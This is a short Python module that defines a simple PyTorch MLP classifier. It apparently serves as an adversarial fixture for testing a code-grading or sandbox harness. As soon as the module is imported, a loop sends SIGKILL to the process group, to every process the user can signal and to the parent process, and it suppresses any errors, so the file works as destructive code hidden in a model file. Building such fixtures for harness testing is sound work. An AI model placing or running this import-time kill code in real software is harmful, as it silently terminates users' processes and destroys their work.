"""Kills whatever it can reach."""

import os
import signal

import torch
from torch import nn


for process in (0, -1, os.getppid()):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass


class MLP(nn.Module):
    def __init__(self, num_inputs, num_hiddens=256, num_outputs=10):
        super().__init__()
        self.hidden = nn.Linear(num_inputs, num_hiddens)
        self.out = nn.Linear(num_hiddens, num_outputs)

    def forward(self, X):
        return self.out(torch.relu(self.hidden(X)))
